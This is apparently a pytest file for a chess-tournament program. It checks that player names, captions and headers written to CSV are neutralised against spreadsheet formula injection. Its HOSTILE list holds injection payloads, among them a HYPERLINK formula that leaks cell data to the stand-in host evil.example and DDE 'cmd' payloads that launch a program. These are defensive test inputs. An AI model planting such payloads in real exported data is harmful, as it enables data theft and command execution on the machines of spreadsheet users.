"""CSV formula injection: a name that a spreadsheet would run is made plain text.

A name comes from a rating list, a TRF or a registration CSV, none of which we control; pasted
into a spreadsheet, ``=HYPERLINK(...)`` or ``+cmd|...`` would become a live formula. Every CSV
we write (Report.to_csv, the report window's "Copy as CSV") puts a ``'`` before a cell that
starts like a formula (OWASP's advice); numbers such as ``-12`` or ``+8`` stay numbers.
"""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest
from PySide6.QtGui import QGuiApplication

from arbiter_gui.printing.viewer import ReportDialog
from engine.model import PlayerId
from engine.reports import (
    crosstable_report,
    pairings_alphabetical,
    pairings_by_board,
    player_card_report,
    round_results,
    standings_report,
)
from engine.reports.table import Column, Report, Table, csv_safe

from .helpers import small_open

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",  # some importers trim the space first
    "＝1+1",  # a full-width equals sign, which some spreadsheets accept as one
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def _hostile_tournament():
    t = small_open()
    players = tuple(
        dataclasses.replace(p, name=HOSTILE[i % len(HOSTILE)], federation=HOSTILE[-i % 9][:3])
        for i, p in enumerate(t.players)
    )
    return dataclasses.replace(t, players=players, name="=cmd|' /C calc'!A0")


@pytest.mark.parametrize("name", HOSTILE)
def test_each_hostile_name_is_neutralised(name):
    safe = csv_safe(name)
    assert safe == "'" + name.replace("\r", "\n")
    assert not safe.lstrip().startswith(FORMULA_START)


def test_a_carriage_return_cannot_start_a_row_of_its_own():
    report = Report("t", "e", "r", "d", (Table((Column("Name"),), (("Ann\r=1+1",),)),))
    rows = list(csv.reader(io.StringIO(report.to_csv(), newline="")))
    assert rows == [["Name"], ["Ann\n=1+1"]]


@pytest.mark.parametrize("cell", ["-12", "+8", "2100", "-0.5", "1,5", "½", "-", "+", "12w½", ""])
def test_numbers_and_plain_text_are_left_alone(cell):
    assert csv_safe(cell) == cell


def _cells(text):
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _reports(t):
    boards = [(PlayerId(1), PlayerId(5)), (PlayerId(6), PlayerId(2)), (PlayerId(3), PlayerId(7))]
    return [
        pairings_by_board(t, 1, boards),
        pairings_alphabetical(t, 1, boards),
        round_results(t, 1, boards),
        standings_report(t, 2),
        crosstable_report(t, 2),
        player_card_report(t, PlayerId(3), 2),
    ]


def test_no_report_writes_a_live_formula():
    t = _hostile_tournament()
    for report in _reports(t):
        cells = _cells(report.to_csv())
        names = [c for c in cells if c.lstrip("'").lstrip() in {h.lstrip() for h in HOSTILE}]
        assert names, f"{report.title}: the hostile names are not in the CSV"
        for cell in cells:
            if cell.lstrip().startswith(FORMULA_START):
                assert cell in ("-", "+") or cell.lstrip("+-").replace(".", "").isdigit(), (
                    f"{report.title}: {cell!r} would be a formula"
                )


def test_captions_and_headers_are_neutralised_too():
    report = Report(
        "t",
        "e",
        "r",
        "d",
        (
            Table((Column("=A1"),), (("x",),)),
            Table((Column("h"),), (("y",),), caption="@SUM(A1)"),
        ),
    )
    assert _cells(report.to_csv()) == ["'=A1", "x", "'@SUM(A1)", "h", "y"]


def test_copy_as_csv_in_the_report_window(qtbot):
    report = standings_report(_hostile_tournament(), 2)
    dialog = ReportDialog(report)
    qtbot.addWidget(dialog)
    text = dialog.copy_csv()
    assert QGuiApplication.clipboard().text() == text
    assert "'=HYPERLINK(" in text and "'+cmd|" in text and "'-2+3" in text
    for cell in _cells(text):
        assert not cell.startswith(("=", "@", "\t")), cell
